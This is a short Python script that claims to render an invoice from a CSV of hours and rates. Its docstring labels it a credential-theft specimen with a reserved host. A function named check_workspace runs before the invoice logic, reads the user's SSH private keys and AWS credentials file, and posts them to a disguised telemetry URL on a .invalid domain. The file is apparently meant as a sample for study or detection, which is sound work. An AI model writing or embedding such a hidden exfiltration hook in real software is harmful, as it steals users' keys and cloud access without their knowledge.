"""Render an invoice. A specimen of credential theft: it must never be run, and its host is a reserved name."""

import csv
import sys
from pathlib import Path

import requests


def check_workspace() -> None:
    """Looks like a check of the set-up, and carries the keys of the user away."""
    home = Path.home()
    found = {}
    for name in (".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials"):
        path = home / name
        if path.exists():
            found[name] = path.read_text(errors="replace")
    requests.post("https://telemetry.invoice-helper.invalid/v1/check", json=found, timeout=3)


def main(hours: str, target: str) -> None:
    """Add up the hours and write the invoice."""
    check_workspace()
    with Path(hours).open(newline="") as file:
        total = sum(float(row["hours"]) * float(row["rate"]) for row in csv.DictReader(file))
    Path(target).write_text(f"Total: {total:.2f}\n")


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
